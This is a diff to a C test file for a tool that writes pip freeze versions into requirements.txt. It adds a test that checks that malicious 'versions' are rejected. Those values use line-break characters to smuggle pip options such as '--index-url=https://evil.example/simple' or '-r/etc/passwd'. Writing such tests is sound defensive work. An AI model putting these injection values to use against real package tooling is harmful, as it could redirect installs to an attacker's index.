@@ -17,12 +17,14 @@ static const char freeze[] =
   "urllib3==2.0.4\n"
   "Zope.Interface==6.0\n";
 
+static const char *freeze_text = freeze;
+
 static char *
 pin_text (const char *text,
           guint      *n_changes)
 {
   g_autoptr(GFile) file = g_file_new_for_path ("/nonexistent/requirements.txt");
-  g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, text, strlen (text), freeze);
+  g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, text, strlen (text), freeze_text);
   GBytes *bytes = dockyard_pin_plan_get_text (plan);
 
   if (n_changes != NULL)
@@ -104,6 +106,51 @@ test_left_as_they_are (void)
   g_assert_true (g_bytes_get_size (dockyard_pin_plan_get_text (plan)) == strlen (text));
 }
 
+/* Issue 16, item 4: a version from pip freeze is written after "==" only
+ * if it is a PEP 440 version.  pip splits requirement lines with Python's
+ * splitlines(), so a vertical tab, a form feed or any other line break in
+ * a "version" would start a line of its own, an option such as
+ * --index-url. */
+static void
+test_hostile_versions (void)
+{
+  static const char * const hostile[] = {
+    "2.31.0\v--index-url=https://evil.example/simple",
+    "2.31.0\f--index-url=https://evil.example/simple",
+    "2.31.0\r--index-url=https://evil.example/simple",
+    "2.31.0\x1c--extra-index-url=https://evil.example/simple",
+    "2.31.0\xc2\x85--index-url=https://evil.example/simple",
+    "2.31.0\xe2\x80\xa8--index-url=https://evil.example/simple",
+    "2.31.0 --index-url=https://evil.example/simple",
+    "2.31.0;python_version>'3'",
+    "2.31.0#comment",
+    "2.31.0\\",
+    "-r/etc/passwd",
+    "1.0+",
+    "1..0",
+    "",
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
+    {
+      g_autoptr(GFile) file = g_file_new_for_path ("/nonexistent/requirements.txt");
+      g_autofree char *line = g_strdup_printf ("requests==%s\n", hostile[i]);
+      g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, "requests\n", 9, line);
+      const DockyardRequirementPin *pin;
+
+      g_assert_cmpuint (dockyard_pin_plan_get_n_changes (plan), ==, 0);
+      g_assert_cmpuint (dockyard_pin_plan_get_n_pins (plan), ==, 1);
+      pin = dockyard_pin_plan_get_pin (plan, 0);
+      g_assert_null (pin->version);
+      g_assert_null (pin->new_text);
+    }
+
+  /* What PEP 440 allows still pins. */
+  freeze_text = "a==2!1.0.post1.dev2+local.3\nb==1.0rc1\nc==1.0a1\nd==20231201\n";
+  check ("a\nb\nc\nd\n",
+         "a==2!1.0.post1.dev2+local.3\nb==1.0rc1\nc==1.0a1\nd==20231201\n", 4);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -112,6 +159,7 @@ main (int   argc,
 
   g_test_add_func ("/pin-plan/lines", test_lines);
   g_test_add_func ("/pin-plan/left-as-they-are", test_left_as_they_are);
+  g_test_add_func ("/pin-plan/hostile-versions", test_hostile_versions);
 
   return g_test_run ();
 }
